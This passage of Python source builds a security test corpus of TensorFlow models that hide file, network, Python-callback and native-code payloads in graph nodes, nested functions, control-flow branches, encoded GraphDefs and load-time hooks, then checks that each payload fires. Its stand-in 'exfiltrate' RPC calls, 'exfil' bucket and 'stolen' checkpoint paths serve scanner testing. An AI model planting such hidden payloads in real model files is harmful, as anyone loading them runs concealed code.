"""Security corpus: TensorFlow-built models that hide a capability, and benign controls.

Called from ``generate.py`` (sample ``security``) in its own TensorFlow 2.21 process. Each case
is one model that hides one capability (file write, file read, network, Python code, native
code) in one place (graph, nested functions, tf.data function, control-flow branch, a GraphDef
stored inside a string constant, load-time ops, training-only subgraph). After writing a case
the generator makes TensorFlow itself show the payload firing (a file appears, a read fails once
its input is removed, a Python callback runs, a custom kernel runs) or, for network payloads,
only imports the graph (nothing may connect anywhere). ``security/golden.json`` records what TF
showed plus where the payload sits in the saved protos; see docs/security-corpus.md.

Every path a payload touches is under ``PROOF`` (absolute, baked into the models); the
generator clears it before each proof. Network payloads name ``*.invalid`` hosts or ``gs://``
paths and are never run.
"""

from __future__ import annotations

import base64
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import tensorflow as tf
from generate import ROOT, fresh_dir, write_json
from google.protobuf import descriptor_pb2
from tensorflow.core.example import example_pb2, feature_pb2
from tensorflow.core.protobuf import control_flow_pb2, saved_model_pb2
from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops
from tensorflow.python.data.experimental.ops import data_service_ops
from tensorflow.python.saved_model import constants as saved_model_constants
from tensorflow.python.trackable import base as trackable_base

v1 = tf.compat.v1
JSON = dict[str, Any]

PROOF = Path("/tmp/metainspect-security")
ASSET_SOURCE = Path("/tmp/metainspect-security-assets")
OUT = "security"
NATIVE_SOURCE = ROOT / "gen_security_probe_op.cc"
CPU = "/job:localhost/replica:0/task:0/device:CPU:0"
DISPATCHER = "grpc://dispatcher.example.invalid:5050"
RPC_HOST = "rpc.example.invalid:8470"
DEBUGGER = "grpc://debugger.example.invalid:6064"
BUCKET = "gs://metainspect-exfil.example.invalid"

CAPABILITIES = ["file_write", "file_read", "network", "python", "native"]
PLACES: dict[str, tuple[str, str]] = {
    # place: (when it runs, description)
    "graph": ("serving", "top-level graph node the serving signature depends on (control edge)"),
    "function": ("serving", "library function at depth 2: graph -> outer fn -> inner fn -> payload"),
    "dataset_fn": ("serving", "tf.data map function of a pipeline the signature reduces"),
    "cond_branch": ("serving", "then-branch function of an If (tf.cond, control flow v2)"),
    "while_body": ("serving", "body function of a While (tf.while_loop, control flow v2)"),
    "cond_v1_branch": ("serving", "top-level nodes behind the Switch of a control flow v1 tf.cond (cond_context)"),
    "nested_plain": ("serving", "GraphDef serialized into a scalar string Const the signature returns"),
    "nested_base64": ("serving", "base64 of a serialized GraphDef in a scalar string Const"),
    "nested_long_string": ("serving", "serialized GraphDef as element 37 of a [64] string Const"),
    "nested_library_first": ("serving", "serialized GraphDef with the library field written before node"),
    "tf1_main_op": ("load_time", "TF1 SavedModel main op (collection saved_model_main_op)"),
    "tf1_legacy_init_op": ("load_time", "TF1 SavedModel legacy init op (collection legacy_init_op)"),
    "tf1_restore_hook": ("load_time", "control input of the SaverDef's restore op"),
    "tf2_init_op": ("load_time", "TF2 resource initializer (_initialize; __saved_model_init_op)"),
    "tf2_restore_fn": ("load_time", "TF2 restore function of a saveable object"),
    "saved_method": ("serving", "TF2 saved tf.function method that is not a signature"),
    "off_path": ("off_path", "training-only op (collection saved_model_train_op), not served"),
}
FIRED: list[str] = []  # names of cases whose Python payload ran
# A graph's py_func callbacks leave the registry when the graph is collected: keep the build graphs
# alive so that loading a model in this process finds its callback token (pyfunc_N).
KEEP_GRAPHS: list[tf.Graph] = []


# --------------------------------------------------------------------------------------------
# payload variants: each builds its ops in the current graph or function body
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Variant:
    key: str
    capability: str
    ops: tuple[str, ...]
    build: Callable[[str], Any]
    target: Callable[[str], str]
    setup: Callable[[str], None] | None = None  # inputs a file read needs
    watch_dir: bool = False  # read proven by the directory's access time, not by removal


def case_dir(case: str) -> str:
    return f"{PROOF}/{case}"


def reduce_sum(ds: tf.data.Dataset) -> tf.Tensor:
    return ds.reduce(tf.constant(0, tf.int64), lambda a, b: a + tf.cast(b, tf.int64))


def _debug(op: str, url: str) -> Callable[[str], Any]:
    def build(case: str) -> Any:
        x = tf.constant([1.0, 2.0])
        kw: JSON = {"input": x, "debug_urls": [url.format(case=case_dir(case))]}
        if op == "DebugIdentityV2":
            kw.update(tfdbg_context_id="ctx", op_name="aux", output_slot=0, tensor_debug_mode=2)
        else:
            kw.update(device_name=CPU, tensor_name="aux:0")
        if op == "DebugIdentityV3":
            kw.update(io_of_node="aux", is_input=False, io_index=0)
        return getattr(tf.raw_ops, op)(**kw)
    return build


def _summary(case: str) -> Any:
    """A summary file writer created, written and flushed in place (raw ops: nothing captured)."""
    writer = tf.raw_ops.SummaryWriter(shared_name=f"writer_{case}")
    create = tf.raw_ops.CreateSummaryFileWriter(
        writer=writer, logdir=case_dir(case) + "/logs", max_queue=tf.constant(1),
        flush_millis=tf.constant(1000), filename_suffix=tf.constant(".v2"))
    with tf.control_dependencies([create]):
        wrote = tf.raw_ops.WriteScalarSummary(writer=writer, step=tf.constant(1, tf.int64), tag="loss",
                                              value=tf.constant(1.0))
    with tf.control_dependencies([wrote]):
        return tf.raw_ops.FlushSummaryWriter(writer=writer)


def _decoy_save(case: str) -> Any:
    with tf.name_scope("save_1/"):
        return tf.raw_ops.SaveV2(prefix=case_dir(case) + "/stolen", tensor_names=["w"],
                                 shape_and_slices=[""], tensors=[tf.constant([1.0, 2.0])], name="SaveV2")


def _py(stateful: bool, eager: bool) -> Callable[[str], Any]:
    def build(case: str) -> Any:
        def callback(value: Any) -> Any:
            FIRED.append(case)
            return np.float32(1.0)
        if eager:
            return tf.py_function(callback, [tf.constant(1.0)], tf.float32)
        return tf.numpy_function(callback, [tf.constant(1.0)], tf.float32, stateful=stateful)
    return build


def _table_read(case: str) -> Any:
    table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, shared_name=f"t_{case}")
    init = tf.raw_ops.InitializeTableFromTextFileV2(
        table_handle=table, filename=case_dir(case) + "/vocab.txt", key_index=-2, value_index=-1)
    with tf.control_dependencies([init]):
        return tf.raw_ops.LookupTableFindV2(table_handle=table, keys=tf.constant(["a"]),
                                            default_value=tf.constant(-1, tf.int64))


def _setup_text(name: str, text: bytes) -> Callable[[str], None]:
    def setup(case: str) -> None:
        Path(case_dir(case), name).write_bytes(text)
    return setup


def _setup_descriptor(case: str) -> None:
    files = descriptor_pb2.FileDescriptorSet()
    for module in (feature_pb2, example_pb2):
        module.DESCRIPTOR.CopyToProto(files.file.add())
    Path(case_dir(case), "desc.pb").write_bytes(files.SerializeToString())


def _setup_checkpoint(case: str) -> None:
    tf.raw_ops.SaveV2(prefix=case_dir(case) + "/other", tensor_names=["secret"], shape_and_slices=[""],
                      tensors=[tf.constant([3.0])])


def _native(case: str) -> Any:
    return NATIVE.metainspect_native_probe(tf.constant(case_dir(case) + "/native.txt"))


def _rpc_client(case: str) -> Any:
    client, _ = gen_rpc_ops.rpc_client(server_address=RPC_HOST, timeout_in_ms=1000, shared_name=f"c_{case}",
                                       list_registered_methods=False)
    future, _ = gen_rpc_ops.rpc_call(client=client, args=[tf.constant(1.0)], method_name="exfiltrate",
                                     timeout_in_ms=1000)
    return future


def _rpc_server(case: str) -> Any:
    server = gen_rpc_ops.rpc_server(server_address="0.0.0.0:8470")
    return gen_rpc_ops.rpc_server_start(server=server)


def _data_service(case: str) -> Any:
    ds = tf.data.experimental.service.from_dataset_id(
        "parallel_epochs", DISPATCHER, tf.constant("dataset-id"), element_spec=tf.TensorSpec([], tf.int64))
    return reduce_sum(ds)


def _register(case: str) -> Any:
    return data_service_ops.register_dataset(DISPATCHER, tf.data.Dataset.range(3))


V = Variant
VARIANTS: dict[str, Variant] = {v.key: v for v in [
    # file writes
    V("write_file", "file_write", ("WriteFile",),
      lambda c: tf.io.write_file(case_dir(c) + "/out.txt", "payload"), lambda c: case_dir(c) + "/out.txt"),
    V("debug_identity_file", "file_write", ("DebugIdentity",), _debug("DebugIdentity", "file://{case}/dbg"),
      lambda c: f"file://{case_dir(c)}/dbg"),
    V("debug_identity_v2_file", "file_write", ("DebugIdentityV2",), _debug("DebugIdentityV2", "file://{case}/dbg"),
      lambda c: f"file://{case_dir(c)}/dbg"),
    V("debug_identity_v3_file", "file_write", ("DebugIdentityV3",), _debug("DebugIdentityV3", "file://{case}/dbg"),
      lambda c: f"file://{case_dir(c)}/dbg"),
    V("debug_nan_count_file", "file_write", ("DebugNanCount",), _debug("DebugNanCount", "file://{case}/dbg"),
      lambda c: f"file://{case_dir(c)}/dbg"),
    V("print_to_file", "file_write", ("PrintV2",),
      lambda c: tf.raw_ops.PrintV2(input=tf.constant("payload"), output_stream=f"file://{case_dir(c)}/printed.txt"),
      lambda c: f"file://{case_dir(c)}/printed.txt"),
    V("dataset_cache", "file_write", ("CacheDatasetV2", "CacheDataset"),
      lambda c: reduce_sum(tf.data.Dataset.range(3).cache(case_dir(c) + "/cache")), lambda c: case_dir(c) + "/cache"),
    V("dataset_snapshot", "file_write", ("SnapshotDatasetV2",),
      lambda c: reduce_sum(tf.data.Dataset.range(3).snapshot(case_dir(c) + "/snap")), lambda c: case_dir(c) + "/snap"),
    V("dataset_save", "file_write", ("SaveDatasetV2", "SaveDataset"),
      lambda c: tf.data.Dataset.range(3).save(case_dir(c) + "/saved"), lambda c: case_dir(c) + "/saved"),
    V("dataset_to_tfrecord", "file_write", ("DatasetToTFRecord",),
      lambda c: tf.data.experimental.TFRecordWriter(case_dir(c) + "/out.tfrecord").write(
          tf.data.Dataset.from_tensors(tf.constant("payload"))), lambda c: case_dir(c) + "/out.tfrecord"),
    V("summary_writer", "file_write", ("CreateSummaryFileWriter", "WriteScalarSummary", "FlushSummaryWriter"),
      _summary, lambda c: case_dir(c) + "/logs"),
    V("decoy_save_1", "file_write", ("SaveV2",), _decoy_save, lambda c: case_dir(c) + "/stolen"),
    # file reads
    V("read_file", "file_read", ("ReadFile",),
      lambda c: tf.io.read_file(case_dir(c) + "/secret.txt"), lambda c: case_dir(c) + "/secret.txt",
      _setup_text("secret.txt", b"secret\n")),
    V("matching_files", "file_read", ("MatchingFiles",),
      lambda c: tf.io.matching_files(case_dir(c) + "/*.txt"), lambda c: case_dir(c) + "/*.txt",
      _setup_text("secret.txt", b"secret\n"), watch_dir=True),
    V("decode_proto_descriptor_file", "file_read", ("DecodeProtoV2",),
      lambda c: tf.raw_ops.DecodeProtoV2(
          bytes=tf.constant([example_pb2.Example().SerializeToString()]), message_type="tensorflow.Example",
          field_names=["features"], output_types=[tf.string], descriptor_source=case_dir(c) + "/desc.pb")[1][0],
      lambda c: case_dir(c) + "/desc.pb", _setup_descriptor),
    V("table_from_non_asset_file", "file_read", ("InitializeTableFromTextFileV2",), _table_read,
      lambda c: case_dir(c) + "/vocab.txt", _setup_text("vocab.txt", b"a\nb\n")),
    V("foreign_restore", "file_read", ("RestoreV2",),
      lambda c: tf.raw_ops.RestoreV2(prefix=case_dir(c) + "/other", tensor_names=["secret"],
                                     shape_and_slices=[""], dtypes=[tf.float32])[0],
      lambda c: case_dir(c) + "/other", _setup_checkpoint),
    V("text_line_dataset", "file_read", ("TextLineDataset",),
      lambda c: reduce_sum(tf.data.TextLineDataset(case_dir(c) + "/secret.txt").map(tf.strings.length)),
      lambda c: case_dir(c) + "/secret.txt", _setup_text("secret.txt", b"secret\n")),
    V("immutable_const_file", "file_read", ("ImmutableConst",),
      lambda c: tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[2], memory_region_name=case_dir(c) + "/w.bin"),
      lambda c: case_dir(c) + "/w.bin", _setup_text("w.bin", bytes(64))),
    # network (never run)
    V("rpc_client", "network", ("RpcClient", "RpcCall"), _rpc_client, lambda c: RPC_HOST),
    V("rpc_server", "network", ("RpcServer", "RpcServerStart"), _rpc_server, lambda c: "0.0.0.0:8470"),
    V("register_dataset", "network", ("RegisterDatasetV2",), _register, lambda c: DISPATCHER),
    V("data_service_dataset", "network", ("DataServiceDatasetV4",), _data_service, lambda c: DISPATCHER),
    V("debug_identity_grpc", "network", ("DebugIdentity",), _debug("DebugIdentity", DEBUGGER), lambda c: DEBUGGER),
    V("gcs_read", "network", ("ReadFile",), lambda c: tf.io.read_file(f"{BUCKET}/{c}"), lambda c: f"{BUCKET}/{c}"),
    V("gcs_write", "network", ("WriteFile",), lambda c: tf.io.write_file(f"{BUCKET}/{c}", "payload"),
      lambda c: f"{BUCKET}/{c}"),
    V("gcs_glob", "network", ("MatchingFiles",), lambda c: tf.io.matching_files(f"{BUCKET}/*"),
      lambda c: f"{BUCKET}/*"),
    # Python
    # (target: the node's callback token, read back from the written model)
    V("py_func", "python", ("PyFunc",), _py(stateful=True, eager=False), lambda c: ""),
    V("py_func_stateless", "python", ("PyFuncStateless",), _py(stateful=False, eager=False), lambda c: ""),
    V("eager_py_func", "python", ("EagerPyFunc",), _py(stateful=True, eager=True), lambda c: ""),
    # native code
    V("native_custom_op", "native", ("MetainspectNativeProbe",), _native,
      lambda c: "custom op library (gen_security_probe_op.cc)"),
]}

# place -> variant for (file_write, file_read, network, python); native code is always the custom op.
# Extra graph cases (EXTRA_GRAPH) cover the remaining op types.
PLAN: dict[str, tuple[str, str, str, str]] = {
    "graph": ("write_file", "read_file", "rpc_client", "py_func"),
    "function": ("debug_identity_file", "decode_proto_descriptor_file", "register_dataset", "eager_py_func"),
    "dataset_fn": ("print_to_file", "read_file", "gcs_read", "py_func"),
    "cond_branch": ("debug_identity_v2_file", "table_from_non_asset_file", "data_service_dataset", "eager_py_func"),
    "while_body": ("debug_identity_v3_file", "matching_files", "debug_identity_grpc", "py_func"),
    "cond_v1_branch": ("write_file", "immutable_const_file", "gcs_write", "py_func"),
    "nested_plain": ("write_file", "read_file", "gcs_read", "py_func"),
    "nested_base64": ("write_file", "read_file", "rpc_client", "eager_py_func"),
    "nested_long_string": ("debug_identity_file", "foreign_restore", "debug_identity_grpc", "py_func"),
    "nested_library_first": ("write_file", "read_file", "gcs_write", "eager_py_func"),
    "tf1_main_op": ("summary_writer", "table_from_non_asset_file", "rpc_server", "py_func"),
    "tf1_legacy_init_op": ("dataset_to_tfrecord", "read_file", "register_dataset", "eager_py_func"),
    "tf1_restore_hook": ("write_file", "foreign_restore", "gcs_write", "py_func"),
    "tf2_init_op": ("dataset_save", "table_from_non_asset_file", "rpc_client", "eager_py_func"),
    "tf2_restore_fn": ("write_file", "foreign_restore", "data_service_dataset", "eager_py_func"),
    "saved_method": ("summary_writer", "text_line_dataset", "gcs_glob", "py_func"),
    "off_path": ("write_file", "read_file", "rpc_client", "py_func"),
}
MATRIX: dict[str, dict[str, str]] = {
    **{cap: {place: row[i] for place, row in PLAN.items()} for i, cap in enumerate(CAPABILITIES[:4])},
    "native": dict.fromkeys(PLACES, "native_custom_op"),
}
EXTRA_GRAPH = ["debug_nan_count_file", "dataset_cache", "dataset_snapshot", "decoy_save_1", "matching_files",
               "immutable_const_file", "text_line_dataset", "rpc_server", "data_service_dataset",
               "debug_identity_grpc", "gcs_write", "py_func_stateless"]
SHORT = {"file_write": "fw", "file_read": "fr", "network": "net", "python": "py", "native": "nat"}


# --------------------------------------------------------------------------------------------
# model builders
# --------------------------------------------------------------------------------------------


@dataclass
class Built:
    """How to load and exercise one written model."""

    path: Path
    fmt: str
    serve: Callable[[], Any] | None = None  # load + run the served path (or call the method)
    load: Callable[[], Any] | None = None  # load only
    train: Callable[[], Any] | None = None  # load + run the training-only op
    nested: JSON | None = None  # where the inner GraphDef sits
    extra: JSON = field(default_factory=dict)


def control(payload: Any, value: tf.Tensor, name: str | None = None) -> tf.Tensor:
    """``value`` made to depend on the payload: by a control edge, plus a data edge when the payload
    has a value (Grappler prunes a stateless op, e.g. ReadFile, that only has a control edge)."""
    with tf.control_dependencies([payload]):
        if isinstance(payload, tf.Tensor) and payload.dtype not in (tf.resource, tf.variant):
            amount = tf.strings.length(payload) if payload.dtype == tf.string else payload
            # 0 that Grappler cannot fold away (x * 0 on integers would be)
            zero = tf.cast(tf.math.is_nan(tf.reduce_sum(tf.cast(amount, tf.float32))), value.dtype)
            value = value + zero
        return tf.identity(value, name=name)


def keep(payload: Any) -> Any:
    """An op that runs the payload when run as a target: a stateless payload (ReadFile) alone under a
    tf.group would be pruned, so its value feeds an Assert that always holds."""
    if isinstance(payload, tf.Tensor) and payload.dtype not in (tf.resource, tf.variant):
        amount = tf.strings.length(payload) if payload.dtype == tf.string else payload
        return tf.debugging.Assert(tf.logical_not(tf.math.is_nan(tf.reduce_sum(tf.cast(amount, tf.float32)))),
                                   ["payload value is NaN"])
    return payload


def base_tf1() -> tuple[tf.Tensor, tf.Tensor]:
    x = v1.placeholder(tf.float32, [None, 2], name="x")
    w = v1.get_variable("w", [2], initializer=v1.constant_initializer([0.5, -1.0]), use_resource=True)
    return x, x * w


X_VALUE = np.array([[1.0, 2.0]], np.float32)


def save_tf1(path: Path, graph: tf.Graph, outputs: dict[str, tf.Tensor], inputs: dict[str, tf.Tensor],
             main_op: Any = None, train_op: Any = None, saver: Any = None) -> None:
    with graph.as_default(), v1.Session(graph=graph) as sess:
        sess.run(v1.global_variables_initializer())
        if train_op is not None:  # what SavedModelBuilder._add_train_op does (v1 Builder has no argument)
            v1.add_to_collection(saved_model_constants.TRAIN_OP_KEY, train_op)
        builder = v1.saved_model.Builder(str(path))
        sig = v1.saved_model.predict_signature_def(inputs, outputs)
        builder.add_meta_graph_and_variables(
            sess, ["serve"], signature_def_map={"serving_default": sig}, main_op=main_op,
            saver=saver, assets_collection=v1.get_collection(v1.GraphKeys.ASSET_FILEPATHS), strip_default_attrs=True)
        builder.save()


def tf1_session(path: Path) -> tuple[v1.Session, Any]:
    graph = tf.Graph()
    sess = v1.Session(graph=graph)
    meta = v1.saved_model.load(sess, ["serve"], str(path))
    return sess, meta


def tf1_serve(path: Path) -> Any:
    sess, meta = tf1_session(path)
    with sess:
        sig = meta.signature_def["serving_default"]
        fetches = {k: v.name for k, v in sig.outputs.items()}
        return sess.run(fetches, {sig.inputs["x"].name: X_VALUE})


def tf1_train(path: Path) -> Any:
    sess, meta = tf1_session(path)
    with sess:
        (name,) = meta.collection_def["saved_model_train_op"].node_list.value
        return sess.run(name)


def edit_saved_model(path: Path, edit: Callable[[Any], None]) -> None:
    pb = path / "saved_model.pb"
    sm = saved_model_pb2.SavedModel.FromString(pb.read_bytes())
    edit(sm.meta_graphs[0])
    pb.write_bytes(sm.SerializeToString(deterministic=True))


def op_name(obj: Any) -> str:
    return obj.name if isinstance(obj, tf.Operation) else obj.op.name


def build_tf1(path: Path, place: str, variant: Variant, case: str) -> Built:
    graph = tf.Graph()
    KEEP_GRAPHS.append(graph)
    built = Built(path, "tf1_saved_model", serve=lambda: tf1_serve(path), load=lambda: tf1_session(path)[0].close(),
                  train=lambda: tf1_train(path))
    with graph.as_default():
        x, y = base_tf1()
        main_op = train_op = None
        hooked = None
        outputs: dict[str, tf.Tensor] = {}
        if place == "graph":
            y = control(variant.build(case), y)
        elif place == "function":
            @tf.function
            def inner(t: tf.Tensor) -> tf.Tensor:
                return control(variant.build(case), t)

            @tf.function
            def outer(t: tf.Tensor) -> tf.Tensor:
                return inner(t) * 1.0
            y = outer(y)
        elif place == "dataset_fn":
            def mapped(v: tf.Tensor) -> tf.Tensor:
                return control(variant.build(case), v + 1)
            y = control(reduce_sum(tf.data.Dataset.range(1).map(mapped)), y)
        elif place == "cond_branch":
            pred = v1.placeholder_with_default(True, [], name="fast_path")
            y = tf.cond(pred, lambda: control(variant.build(case), y), lambda: y * 2.0)
        elif place == "cond_v1_branch":
            pred = v1.placeholder_with_default(True, [], name="fast_path")
            v1.disable_control_flow_v2()
            try:
                y = tf.cond(pred, lambda: control(variant.build(case), y), lambda: y * 2.0)
            finally:
                v1.enable_control_flow_v2()
        elif place == "while_body":
            def body(i: tf.Tensor, acc: tf.Tensor) -> tuple[tf.Tensor, tf.Tensor]:
                return i + 1, control(variant.build(case), acc)
            _, y = tf.while_loop(lambda i, acc: i < 1, body, [tf.constant(0), y])
        elif place in ("tf1_main_op", "tf1_legacy_init_op"):
            main_op = tf.group(keep(variant.build(case)), name="main_op")
        elif place == "tf1_restore_hook":
            hooked = keep(variant.build(case))
        elif place == "off_path":
            train_op = tf.group(keep(variant.build(case)), name="train_step")
        elif place.startswith("nested_"):
            blob, built.nested = nested_blob(place, variant, case)
            outputs["blob"] = tf.constant(blob, name="model_blob")
            built.serve = lambda: run_nested(path, built.nested)
        else:
            raise ValueError(place)
        outputs["y"] = tf.identity(y, name="y")
        save_tf1(path, graph, outputs, {"x": x}, main_op=main_op, train_op=train_op)
    if place == "cond_v1_branch":
        def canonical_cond_context(mg: Any) -> None:
            """TF serializes CondContextDef's external_values map in hash order: re-serialize it
            deterministically (same message) so the file is the same from run to run."""
            values = mg.collection_def["cond_context"].bytes_list.value
            for i, raw in enumerate(values):
                values[i] = control_flow_pb2.CondContextDef.FromString(raw).SerializeToString(deterministic=True)
        edit_saved_model(path, canonical_cond_context)
    elif place == "tf1_legacy_init_op":
        def to_legacy(mg: Any) -> None:
            mg.collection_def["legacy_init_op"].CopyFrom(mg.collection_def["saved_model_main_op"])
            del mg.collection_def["saved_model_main_op"]
        edit_saved_model(path, to_legacy)
        built.extra["load_hook"] = "collection legacy_init_op"
    elif place == "tf1_main_op":
        built.extra["load_hook"] = "collection saved_model_main_op"
    elif place == "off_path":
        built.extra["load_hook"] = "collection saved_model_train_op (training only)"
    elif place == "tf1_restore_hook":
        def hook(mg: Any) -> None:
            restore = mg.saver_def.restore_op_name
            node = next(n for n in mg.graph_def.node if n.name == restore)
            node.input.append("^" + op_name(hooked))
            built.extra["load_hook"] = f"control input of SaverDef restore op {restore}"
        edit_saved_model(path, hook)
    return built


# nested GraphDefs ---------------------------------------------------------------------------

LONG_INDEX = 37


def inner_graph_def(variant: Variant, case: str, in_function: bool) -> Any:
    graph = tf.Graph()
    KEEP_GRAPHS.append(graph)
    with graph.as_default():
        if in_function:
            @tf.function
            def hidden() -> tf.Tensor:
                return control(variant.build(case), tf.constant(1))
            tf.identity(hidden(), name="result")
        else:
            control(variant.build(case), tf.constant(1), name="result")
    return graph.as_graph_def()


def nested_blob(place: str, variant: Variant, case: str) -> tuple[Any, JSON]:
    gd = inner_graph_def(variant, case, in_function=place == "nested_library_first")
    raw = gd.SerializeToString(deterministic=True)
    info: JSON = {"node": "model_blob", "encoding": place.removeprefix("nested_"), "element": None}
    if place == "nested_plain":
        return raw, info
    if place == "nested_base64":
        return base64.b64encode(raw), info
    if place == "nested_long_string":
        tokens = [f"token_{i:02d}".encode() for i in range(64)]
        tokens[LONG_INDEX] = raw
        info["element"] = LONG_INDEX
        return tokens, info
    # library (field 2) first, then node (1) and versions (4): a valid encoding TF's writer never emits
    library_first = (v1.GraphDef(library=gd.library).SerializeToString(deterministic=True)
                     + v1.GraphDef(node=gd.node, versions=gd.versions).SerializeToString(deterministic=True))
    assert library_first[0] == 0x12 and v1.GraphDef.FromString(library_first) == gd
    return library_first, info


def inner_bytes(value: Any, info: JSON) -> bytes:
    if info["element"] is not None:
        value = value[info["element"]]
    return base64.b64decode(value) if info["encoding"] == "base64" else bytes(value)


def run_nested(path: Path, info: JSON) -> Any:
    """Read the blob through the served signature, decode it and run the embedded graph."""
    blob = tf1_serve(path)["blob"]
    gd = v1.GraphDef.FromString(inner_bytes(blob, info))
    with tf.Graph().as_default() as graph:
        tf.graph_util.import_graph_def(gd, name="")
        with v1.Session(graph=graph) as sess:
            return sess.run("result:0")


# TF2 ----------------------------------------------------------------------------------------

SPEC = tf.TensorSpec([None, 2], tf.float32)


class Base(tf.Module):
    def __init__(self) -> None:
        super().__init__()
        self.w = tf.Variable([0.5, -1.0], name="w")

    @tf.function(input_signature=[SPEC])
    def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
        return {"y": x * self.w}


class HiddenInit(tf.saved_model.experimental.TrackableResource):
    def __init__(self, payload: Callable[[], Any]) -> None:
        self.payload = payload
        super().__init__()

    def _create_resource(self) -> tf.Tensor:
        return tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

    def _initialize(self) -> Any:
        return tf.raw_ops.LookupTableImportV2(table_handle=self.resource_handle, keys=tf.constant(["a"]),
                                              values=control(self.payload(), tf.constant([1], tf.int64)))


class HiddenRestore(trackable_base.Trackable):
    def __init__(self, payload: Callable[[], Any]) -> None:
        self.payload = payload

    def _serialize_to_tensors(self) -> dict[str, tf.Tensor]:
        return {"value": tf.constant(1.0)}

    def _restore_from_tensors(self, restored: dict[str, tf.Tensor]) -> Any:
        return control(self.payload(), restored["value"])


def call_tf2(path: Path, method: str) -> Any:
    loaded = tf.saved_model.load(str(path))  # held while the method runs: it owns the variables
    return getattr(loaded, method)(X_VALUE)


def build_tf2(path: Path, place: str, variant: Variant, case: str) -> Built:
    module = Base()
    built = Built(path, "tf2_saved_model", load=lambda: tf.saved_model.load(str(path)))
    payload = lambda: variant.build(case)  # noqa: E731
    if place == "tf2_init_op":
        module.table = HiddenInit(payload)
        built.extra["load_hook"] = "resource _initialize (signature __saved_model_init_op)"
    elif place == "tf2_restore_fn":
        module.state = HiddenRestore(payload)
        built.extra["load_hook"] = "restore_function of saveable object 'state'"
    elif place == "saved_method":
        def evil(x: tf.Tensor) -> tf.Tensor:
            return control(payload(), x * 2.0)
        module.calibrate = tf.function(evil, input_signature=[SPEC])
        built.serve = lambda: call_tf2(path, "calibrate")
        built.extra["load_hook"] = "saved method 'calibrate' (not a signature)"
    else:
        raise ValueError(place)
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    (path / "fingerprint.pb").unlink(missing_ok=True)  # random uuid; TF loads without it
    return built


TF2_PLACES = {"tf2_init_op", "tf2_restore_fn", "saved_method"}


# --------------------------------------------------------------------------------------------
# proofs
# --------------------------------------------------------------------------------------------


def first_line(exc: BaseException) -> str:
    lines = [ln.strip() for ln in str(exc).splitlines() if ln.strip()]
    lines = [ln for ln in lines if ln != "Graph execution error:" and not ln.startswith("Detected at node")]
    naming = [ln for ln in lines if str(PROOF) in ln]
    return f"{type(exc).__name__}: {(naming or lines or [''])[0]}"[:300]


def attempt(action: Callable[[], Any]) -> BaseException | None:
    try:
        action()
    except Exception as exc:  # noqa: BLE001  (TF's own error is the evidence)
        return exc
    return None


class Probe:
    """Observes one payload's effect under PROOF/<case>."""

    def __init__(self, variant: Variant, case: str) -> None:
        self.variant, self.case = variant, case
        self.dir = Path(case_dir(case))

    def reset(self, with_inputs: bool = False) -> None:
        shutil.rmtree(self.dir, ignore_errors=True)
        self.dir.mkdir(parents=True)
        FIRED.clear()
        if self.variant.setup and (with_inputs or self.variant.watch_dir):
            self.variant.setup(self.case)
        if self.variant.watch_dir:
            old = time.time() - 3 * 86400
            os.utime(self.dir, (old, self.dir.stat().st_mtime))
            self.atime = self.dir.stat().st_atime

    def effect(self, exc: BaseException | None) -> str | None:
        """What TF did, or None when nothing observable happened."""
        cap = self.variant.capability
        if cap == "python":
            if exc is not None:
                raise RuntimeError(f"{self.case}: {first_line(exc)}") from exc
            return f"Python callback ran ({len(FIRED)} call(s))" if self.case in FIRED else None
        if cap == "file_read":
            if self.variant.watch_dir:
                return "directory listed (access time advanced)" if self.dir.stat().st_atime > self.atime else None
            return f"with the input removed: {first_line(exc)}" if exc is not None else None
        if exc is not None:
            raise RuntimeError(f"{self.case}: {first_line(exc)}") from exc
        files = [p for p in self.dir.rglob("*") if p.is_file()]
        if not files:
            return None
        tops = sorted({p.relative_to(self.dir).parts[0] for p in files})  # names below carry timestamps
        return f"created {len(files)} file(s) under {case_dir(self.case)}/: {', '.join(tops)}"

    def run(self, action: Callable[[], Any]) -> str | None:
        if self.variant.capability == "file_read" and not self.variant.watch_dir:
            self.reset(with_inputs=True)
            exc = attempt(action)
            if exc is not None:
                raise RuntimeError(f"{self.case}: fails even with its input: {first_line(exc)}") from exc
            self.reset(with_inputs=False)
            return self.effect(attempt(action))
        self.reset(with_inputs=True)
        exc = attempt(action)
        return self.effect(exc)


def prove(built: Built, variant: Variant, place: str, case: str) -> JSON:
    when = PLACES[place][0]
    if variant.capability == "network":
        import_only(built)
        return {"fired": False, "proof": f"not run (would reach {variant.target(case)}); TF imports the graph"}
    probe = Probe(variant, case)
    if when == "load_time":
        effect = probe.run(built.load)
        assert effect, f"{case}: load did not fire"
        return {"fired": True, "proof": f"on load: {effect}"}
    quiet = probe.run(built.load)
    if quiet is not None:  # e.g. Grappler constant-folds a stateless py_func with constant inputs
        assert when == "serving", f"{case}: fired on load: {quiet}"
        return {"fired": True, "proof": f"already on load (before serving): {quiet}"}
    if when == "serving":
        effect = probe.run(built.serve)
        assert effect, f"{case}: serving did not fire"
        how = "calling the method" if place == "saved_method" else (
            "decoding the blob and running the embedded graph" if built.nested else "serving")
        return {"fired": True, "proof": f"not on load; on {how}: {effect}"}
    quiet = probe.run(built.serve)
    assert quiet is None, f"{case}: fired when serving: {quiet}"
    effect = probe.run(built.train)
    assert effect, f"{case}: training op did not fire"
    return {"fired": True, "proof": f"not on load nor serving; on running the train op: {effect}"}


def import_only(built: Built) -> None:
    """Import every graph (and the nested one) without running anything."""
    sm = saved_model_pb2.SavedModel.FromString((built.path / "saved_model.pb").read_bytes())
    for mg in sm.meta_graphs:
        with tf.Graph().as_default():
            v1.train.import_meta_graph(mg)
    if built.nested:
        gd = v1.GraphDef.FromString(inner_bytes(nested_value(sm.meta_graphs[0], built.nested), built.nested))
        with tf.Graph().as_default():
            tf.graph_util.import_graph_def(gd, name="")


# --------------------------------------------------------------------------------------------
# where the payload sits (read back from the written protos)
# --------------------------------------------------------------------------------------------


def nested_value(meta_graph: Any, info: JSON) -> Any:
